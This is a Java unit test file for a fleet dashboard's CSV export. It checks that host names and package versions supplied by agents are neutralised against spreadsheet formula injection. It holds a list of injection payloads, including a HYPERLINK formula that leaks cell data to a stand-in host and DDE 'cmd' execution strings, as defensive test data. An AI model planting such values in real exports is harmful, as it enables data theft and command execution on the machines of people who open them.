package io.releasegates.fleet.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.releasegates.fleet.HostReport;
import io.releasegates.fleet.PackageRef;
import io.releasegates.fleet.store.FleetStore;
import io.releasegates.fleet.store.FleetStores;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 14 item 7: CSV cells starting with a space, a line feed, or containing ; or = were not neutralised. */
class FleetCsvTest {
    /** Hostile values an agent can choose: host name, environment, role, package name and version. */
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            " =1+1",
            "  +cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\tleading-tab",
            "\rleading-cr",
            "\nleading-lf",
            " \n=lf-after-space",
            "safe;=cmd|' /C calc'!A0",
            "a,b\"c");

    @Test
    void shouldNeutraliseEveryCellAFormulaCouldStartIn() {
        assertThat(FleetCsv.cell("=1+1")).isEqualTo("\"'=1+1\"");
        assertThat(FleetCsv.cell(" =1+1")).isEqualTo("\"' =1+1\"");
        assertThat(FleetCsv.cell("+1")).isEqualTo("'+1");
        assertThat(FleetCsv.cell("-1")).isEqualTo("'-1");
        assertThat(FleetCsv.cell("@x")).isEqualTo("'@x");
        assertThat(FleetCsv.cell("\tx")).isEqualTo("\"'\tx\"");
        assertThat(FleetCsv.cell("\rx")).isEqualTo("\"'\rx\"");
        assertThat(FleetCsv.cell("\nx")).isEqualTo("\"'\nx\"");
        assertThat(FleetCsv.cell("   @x")).isEqualTo("'   @x");
        assertThat(FleetCsv.cell("a;b")).isEqualTo("\"a;b\"");
        assertThat(FleetCsv.cell("a=b")).isEqualTo("\"a=b\"");
        assertThat(FleetCsv.cell("say \"hi\", then")).isEqualTo("\"say \"\"hi\"\", then\"");
        // the store's own numbers stay numbers; ordinary text is untouched
        assertThat(FleetCsv.cell(-3)).isEqualTo("-3");
        assertThat(FleetCsv.cell("2.17.1-1ubuntu0.1")).isEqualTo("2.17.1-1ubuntu0.1");
        assertThat(FleetCsv.cell("web 1")).isEqualTo("web 1");
        assertThat(FleetCsv.cell(null)).isEmpty();
    }

    @Test
    void shouldExportHostileHostNamesAndVersionsAsTextOnly(@TempDir Path tmp) {
        try (FleetStore store = FleetStores.open(tmp.resolve("fleet").toString())) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                String evil = HOSTILE.get(i);
                List<PackageRef> packages = List.of(
                        new PackageRef("pkg:generic/" + "evil" + i, "generic", evil, evil),
                        new PackageRef("pkg:generic/plain", "generic", "plain", "1." + i));
                store.ingest(new HostReport(evil, evil.length() > 90 ? "x" : evil, evil.length() > 90 ? "y" : evil,
                        Instant.parse("2026-12-01T00:00:00Z"), packages));
            }
            String hosts = FleetDashboard.render(store, "/export/hosts.csv", null);
            String components = FleetDashboard.render(store, "/export/components.csv", null);
            List<List<String>> hostRows = parse(hosts);
            List<List<String>> componentRows = parse(components);
            assertThat(hostRows).hasSize(1 + HOSTILE.size());
            assertThat(componentRows).hasSize(1 + HOSTILE.size() * 2);
            for (List<List<String>> rows : List.of(hostRows, componentRows)) {
                int width = rows.get(0).size();
                for (List<String> row : rows) {
                    assertThat(row).as("a value split no row into extra cells: " + row).hasSize(width);
                    for (String cell : row) {
                        assertThat(cell.stripLeading().isEmpty() || "=+-@\t\r\n".indexOf(cell.replaceFirst("^ +", "").charAt(0)) < 0)
                                .as("cell a spreadsheet would evaluate: [" + cell + "]").isTrue();
                    }
                }
            }
            List<String> names = hostRows.subList(1, hostRows.size()).stream().map(r -> r.get(0)).toList();
            for (String evil : HOSTILE) {
                boolean formulaLike = "=+-@\t\r\n".indexOf(evil.replaceFirst("^ +", "").charAt(0)) >= 0;
                assertThat(names).contains(formulaLike ? "'" + evil : evil);
            }
        }
    }

    /** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks; rows end with CRLF. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                assertThat(c).as("unquoted line break inside a row").isNotIn('\r', '\n');
                cell.append(c);
            }
        }
        assertThat(quoted).as("unterminated quote").isFalse();
        assertThat(cell).isEmpty();
        return rows;
    }
}
